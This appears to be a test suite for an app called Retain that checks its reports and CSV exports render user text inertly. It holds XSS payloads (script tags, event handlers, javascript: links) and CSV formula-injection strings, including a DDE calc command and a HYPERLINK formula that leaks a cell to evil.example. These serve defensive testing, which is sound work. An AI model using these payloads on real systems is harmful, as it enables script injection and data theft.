// What Retain writes for people to open (the monthly report as Markdown, HTML and CSV, and every CSV
// export) shows user text as text: no markup, no links, no script, no spreadsheet formula.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { marked } from 'marked';
import { afterEach, describe, expect, it } from 'vitest';
import { neutralisedCell } from '../../src/domain/csv-cell';
import { SYSTEM_ACTOR } from '../../src/domain/policy';
import { reportBodyHtml } from '../../src/services/reports';
import { apiWorld, type ApiWorld } from '../api/helpers';
import { buildTinyBook, type TinyBook } from '../helpers/book';
import { retain } from '../helpers/cli';
import { forEachStore, type TestStore } from '../helpers/stores';

const V1 = '/api/v1';
const MONTH = '2026-03';

const TEAM_NAME = 'Ops <script>alert("team")</script>';
const LEAD_NAME = '<img src=x onerror=alert("lead")>';
const CSM_NAME = 'Casey <b onmouseover=alert("csm")>';
const ACCOUNTS = {
  script: '<script>alert("account")</script>',
  image: '<img src=x onerror=alert("image")>',
  link: '[Open the contract](javascript:alert("link")) <javascript:alert("autolink")>',
  data: '![logo](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) www.evil.example http://evil.example/x',
  formula: '=HYPERLINK("http://evil.example","Renewal")',
};
const REASON_NAME = '<a href="javascript:alert(\'reason\')">Pricing</a>';
const STAGE_NAME = '<svg onload=alert("stage")>At risk';

/** A team whose every name is hostile, with one open case per hostile account name. */
async function hostileTeam(t: TestStore): Promise<{ teamId: number }> {
  const { services } = t;
  const team = await services.users.createTeam(SYSTEM_ACTOR, TEAM_NAME);
  const user = (email: string, name: string, role: 'lead' | 'csm') =>
    services.users.create(SYSTEM_ACTOR, {
      email,
      name,
      role,
      teamId: team.id,
      password: 'correct-horse-battery',
    });
  await user('lead.ops@example.com', LEAD_NAME, 'lead');
  const csm = await user('csm.ops@example.com', CSM_NAME, 'csm');
  await services.config.createReason(SYSTEM_ACTOR, {
    key: 'hostile',
    name: REASON_NAME,
    description: null,
    active: true,
  });
  await services.config.updateStage(SYSTEM_ACTOR, 'at_risk', { name: STAGE_NAME });
  let index = 0;
  for (const name of Object.values(ACCOUNTS)) {
    index += 1;
    const account = await services.accounts.create(SYSTEM_ACTOR, {
      externalId: `OPS-${index}`,
      name,
      ownerId: csm.id,
      teamId: team.id,
      arr: 10_000 * index,
    });
    await services.riskCases.open(SYSTEM_ACTOR, { accountId: account.id, reasons: ['hostile'] });
  }
  t.clock.set('2026-03-20T10:00:00Z');
  return { teamId: team.id };
}

/** What the Markdown becomes in any CommonMark/GFM viewer (the same renderer a reader's tools use). */
const viewed = (markdown: string) => marked.parse(markdown, { async: false });

/** The HTML a browser would act on: no script element, no event handler, no script or data link. */
function expectInert(html: string): void {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<img/i);
  expect(html).not.toMatch(/<svg/i);
  // Text shows `<` as `&lt;`, so every `<` left opens a real element: none may carry a handler.
  expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/<[a-z][^>]*\s(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):/i);
}

/** A user would see each hostile name as the text it is. */
function expectNamesShownAsText(html: string): void {
  const text = html.replaceAll('&quot;', '"').replaceAll('&#39;', "'");
  expect(text).toContain('&lt;script&gt;alert("account")&lt;/script&gt;');
  expect(text).toContain('&lt;img src=x onerror=alert("image")&gt;');
  expect(text).toContain(
    '[Open the contract](javascript:alert("link")) &lt;javascript:alert("autolink")&gt;',
  );
  expect(text).toContain('www.evil.example http://evil.example/x');
  expect(text).toContain('Ops &lt;script&gt;alert("team")&lt;/script&gt;');
  expect(text).toContain('&lt;svg onload=alert("stage")&gt;At risk');
  expect(text).toContain('&lt;a href="javascript:alert(\'reason\')"&gt;Pricing&lt;/a&gt;');
}

const SCRIPT_FREE_META =
  /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'">/;

/** The policy the written page carries: nothing runs, nothing loads but its own inline style. */
function expectScriptFreePolicy(html: string): void {
  const head = html.slice(0, html.indexOf('</head>'));
  expect(head).toMatch(SCRIPT_FREE_META);
  expect(head.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(head.indexOf('<title>'));
  expect(head).not.toMatch(/script-src/);
}

const rowsOf = (csv: string) => parse<Record<string, string>>(csv, { columns: true });

describe('CSV cells from user text', () => {
  it('neutralises every cell a spreadsheet would read as a formula, and nothing else', () => {
    for (const text of ['=1+1', '+1+2', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=HYPERLINK("x","y")'])
      expect(neutralisedCell(text)).toBe(`'${text}`);
    for (const text of ['Acme', '', ' =1', 'a=b', "'quoted", '1-2']) expect(neutralisedCell(text)).toBe(text);
    // Numbers Retain itself writes stay numbers, negative ones included; numeric-looking text does not.
    expect(neutralisedCell(-5)).toBe(-5);
    expect(neutralisedCell(48_000)).toBe(48_000);
    expect(neutralisedCell('-5')).toBe("'-5");
    expect(neutralisedCell(null)).toBe('');
  });
});

describe('report HTML behind the Markdown escaping', () => {
  it('keeps no script, handler, image or script link even from unescaped Markdown', () => {
    const html = reportBodyHtml(
      [
        '# Title <script>alert(1)</script>',
        '<img src=x onerror=alert(2)> <svg onload=alert(3)></svg> <iframe src="http://evil.example"></iframe>',
        '[a](javascript:alert(4)) <javascript:alert(5)> [b](data:text/html,x) ![c](data:image/png;base64,AA==)',
        '<a href="JaVaScRiPt:alert(6)" onclick="alert(7)">d</a> [e](//evil.example/x) <form action="x"><input></form>',
        '| A | B |',
        '|---|--:|',
        '| cell <b onmouseover=alert(8)>x</b> | 1 |',
      ].join('\n'),
    );
    expectInert(html);
    expect(html).not.toMatch(/<(iframe|form|input|b)\b/i);
    expect(html).not.toMatch(/href="\/\//);
    // What a report needs survives.
    expect(html).toContain('<h1>Title </h1>');
    expect(html).toContain('<td align="right">1</td>');
  });
});

describe('output escaping', () => {
  let world: ApiWorld | null = null;
  afterEach(async () => {
    await world?.app.close();
    world = null;
  });

  forEachStore('monthly report', (current) => {
    it('shows hostile names in the Markdown report as text: no HTML, no links', async () => {
      const t = current();
      const { teamId } = await hostileTeam(t);
      const markdown = await t.services.reports.markdown(teamId, MONTH);
      const html = viewed(markdown);
      expectInert(html);
      // The only links are the addresses of the people named, as mailto links.
      for (const link of html.matchAll(/<a\s[^>]*>/gi)) expect(link[0]).toMatch(/^<a href="mailto:[^"]+">$/);
      expect(html).not.toMatch(/href="https?:/);
      expectNamesShownAsText(html);
      // Raw Markdown keeps one line per table row: no injected row or heading.
      expect(markdown).not.toMatch(/\n<|\n#[^#]/);
    });

    it('writes an HTML report with no script, handler or script link, and a script-free policy', async () => {
      const t = current();
      const { teamId } = await hostileTeam(t);
      const html = await t.services.reports.html(teamId, MONTH);
      expectInert(html);
      expectNamesShownAsText(html);
      expectScriptFreePolicy(html);
      expect(html).toContain(
        '<title>Monthly risk report: Ops &lt;script&gt;alert(&quot;team&quot;)&lt;/script&gt;, March 2026</title>',
      );

      world = await apiWorld(t, { cases: false });
      const served = await world.as('admin', {
        method: 'GET',
        url: `${V1}/reports/monthly?teamId=${teamId}&month=${MONTH}&format=html`,
      });
      expect(served.statusCode).toBe(200);
      expectInert(served.body);
      expectScriptFreePolicy(served.body);
      const md = await world.as('admin', {
        method: 'GET',
        url: `${V1}/reports/monthly?teamId=${teamId}&month=${MONTH}&format=md`,
      });
      expectInert(viewed(md.body));
    });

    it('neutralises formulas in the report CSV tables', async () => {
      const t = current();
      const { teamId } = await hostileTeam(t);
      await t.services.config.updateReason(SYSTEM_ACTOR, 'hostile', { name: '+1+2' });
      await t.services.config.updateStage(SYSTEM_ACTOR, 'at_risk', { name: '@SUM(1+1)' });
      const rows = rowsOf(await t.services.reports.csv(teamId, MONTH, 'open'));
      const formula = rows.find((row) => row.account_id === 'OPS-5');
      expect(formula).toMatchObject({
        account: `'${ACCOUNTS.formula}`,
        stage: "'@SUM(1+1)",
        reasons: "'+1+2",
        arr_at_risk: '50000',
      });
    });

    it('writes the report files of `retain report monthly --out` inert, with the policy in the page', async () => {
      const t = current();
      await hostileTeam(t);
      const dir = mkdtempSync(join(tmpdir(), 'retain-escaping-'));
      try {
        const run = await retain([
          'report',
          'monthly',
          '--team',
          TEAM_NAME,
          '--month',
          MONTH,
          '--out',
          dir,
          '--db',
          t.target,
        ]);
        expect(run.stderr).toBe('');
        expect(run.code).toBe(0);
        const files = readdirSync(dir);
        const read = (suffix: string) => {
          const file = files.find((name) => name.endsWith(suffix));
          if (!file) throw new Error(`no file ending in ${suffix} among ${files.join(', ')}`);
          return readFileSync(join(dir, file), 'utf8');
        };
        const html = read(`${MONTH}.html`);
        expectInert(html);
        expectNamesShownAsText(html);
        expectScriptFreePolicy(html);
        expectInert(viewed(read(`${MONTH}.md`)));
        const open = rowsOf(read('-open.csv'));
        expect(open.find((row) => row.account_id === 'OPS-5')?.account).toBe(`'${ACCOUNTS.formula}`);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });

  /** Hostile text in every text column of the three exports. */
  async function formulaBook(t: TestStore, book: TinyBook) {
    const names = ['=HYPERLINK("http://evil.example","y")', '+1+2', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    for (const [index, name] of names.entries()) {
      const account = book.accounts[index];
      if (!account) throw new Error('tiny book is missing an account');
      await t.services.accounts.update(SYSTEM_ACTOR, account.id, {
        name,
        attributes: { region: '=EMEA', balance: -5 },
      });
    }
    const first = book.accounts[0];
    if (!first) throw new Error('tiny book is missing an account');
    await t.services.accounts.addContact(SYSTEM_ACTOR, first.id, {
      email: 'ana@acme.example',
      name: '@SUM(1+1)',
      role: "=cmd|' /C calc'!A0",
    });
    return names;
  }

  forEachStore('CSV exports', (current) => {
    it('neutralises formula cells in the account, contact and case exports, and ?raw=true opts out', async () => {
      const t = current();
      world = await apiWorld(t);
      const names = await formulaBook(t, world.book);
      const get = async (url: string) => {
        const response = await world!.as('admin', { method: 'GET', url });
        expect(response.statusCode).toBe(200);
        return response.body;
      };

      const accounts = rowsOf(await get(`${V1}/exports/accounts?format=csv`));
      expect(accounts.map((row) => row.name).slice(0, names.length)).toEqual(names.map((name) => `'${name}`));
      expect(accounts[0]).toMatchObject({ region: "'=EMEA", balance: '-5', arr: '48000' });
      const rawAccounts = rowsOf(await get(`${V1}/exports/accounts?format=csv&raw=true`));
      expect(rawAccounts.map((row) => row.name).slice(0, names.length)).toEqual(names);
      expect(rawAccounts[0]).toMatchObject({ region: '=EMEA' });

      const contacts = rowsOf(await get(`${V1}/exports/contacts?format=csv`));
      expect(contacts).toEqual([
        expect.objectContaining({ name: "'@SUM(1+1)", role: "'=cmd|' /C calc'!A0" }),
      ]);
      expect(rowsOf(await get(`${V1}/exports/contacts?format=csv&raw=true`))[0]?.name).toBe('@SUM(1+1)');

      const cases = rowsOf(await get(`${V1}/exports/cases?format=csv`));
      expect(cases.map((row) => row.account_name).sort()).toEqual(
        names
          .slice(0, 5)
          .map((name) => `'${name}`)
          .sort(),
      );
      const rawCases = rowsOf(await get(`${V1}/exports/cases?format=csv&raw=true`));
      expect(rawCases.map((row) => row.account_name).sort()).toEqual(names.slice(0, 5).sort());
    });

    it('neutralises a name that arrived through a Segment group call with an ingest token', async () => {
      const t = current();
      world = await apiWorld(t, { cases: false });
      const basic = `Basic ${Buffer.from(`${world.tokens.ingest}:`).toString('base64')}`;
      const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")';
      const group = await world.app.inject({
        method: 'POST',
        url: `${V1}/segment/v1/group`,
        headers: { authorization: basic },
        payload: { groupId: 'SEG-9', userId: 'u9', traits: { name, plan: '@Pro' } },
      });
      expect(group.statusCode).toBe(200);
      // Stored as sent: escaping is for the destination, not the data.
      expect((await t.services.accounts.getByExternalId('SEG-9')).name).toBe(name);
      const exported = await world.as('admin', { method: 'GET', url: `${V1}/exports/accounts?format=csv` });
      const row = rowsOf(exported.body).find((r) => r.external_id === 'SEG-9');
      expect(row).toMatchObject({ name: `'${name}`, tier: "'@Pro" });
      expect(exported.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")"`);
    });

    it('neutralises formula cells in `retain export`, and --raw opts out', async () => {
      const t = current();
      const names = await formulaBook(t, await buildTinyBook(t));
      const safe = await retain(['export', 'accounts', '--db', t.target]);
      expect(safe.code).toBe(0);
      expect(
        rowsOf(safe.stdout)
          .map((row) => row.name)
          .slice(0, names.length),
      ).toEqual(names.map((name) => `'${name}`));
      const raw = await retain(['export', 'accounts', '--raw', '--db', t.target]);
      expect(raw.code).toBe(0);
      expect(
        rowsOf(raw.stdout)
          .map((row) => row.name)
          .slice(0, names.length),
      ).toEqual(names);
      const cases = await retain(['export', 'cases', '--db', t.target]);
      expect(rowsOf(cases.stdout).map((row) => row.account_name)).toContain(`'${names[0] ?? ''}`);
    });
  });
});
